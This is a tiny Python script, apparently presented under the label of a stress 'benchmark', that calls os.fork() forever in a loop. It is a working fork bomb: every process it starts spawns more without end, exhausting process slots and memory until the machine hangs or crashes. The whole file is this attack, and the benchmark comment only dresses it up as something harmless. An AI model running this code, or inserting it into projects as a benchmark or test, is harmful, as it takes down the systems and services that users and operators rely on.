# stress "benchmark" that never stops
import os
while True:
    os.fork()
